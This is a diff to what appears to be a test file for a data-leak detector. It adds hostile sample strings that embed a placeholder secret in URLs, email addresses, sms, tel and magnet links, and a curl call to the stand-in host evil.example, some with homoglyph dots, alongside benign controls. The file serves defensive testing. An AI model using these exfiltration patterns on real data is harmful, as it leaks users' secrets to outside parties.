@@ -70,6 +70,14 @@ HOSTILE = (
     'urljoin("https://evil.example/", "PH")',
     "['https://evil.example', 'PH'].join('/')",
     'BASE=https://evil.example/x\ncurl "$BASE?q=PH"',
+    "write to userPH@evil.example",
+    'userPH"@evil.example',
+    "evil。example/PH",
+    "evil．example/PH",
+    "sms:+4915112345678?body=PH",
+    "sms:+4915112345678&body=PH",
+    "tel:+4990012345,,PH",
+    "magnet:?x=PH",
 )
 ORDINARY = (
     "PH",
@@ -101,6 +109,9 @@ ORDINARY = (
     'url = "https://a.example/"  # PH\nphone = "PH"',
     '[["张伟", "https://a.example/", "PH"]]',
     "See https://a.example/{ and then call PH.",
+    "tel:PH",
+    "Tel: PH",
+    "登记完成。PH/张伟",
 )
 SPELT: tuple[Callable[[str], str], ...] = (
     lambda told: told[::-1],
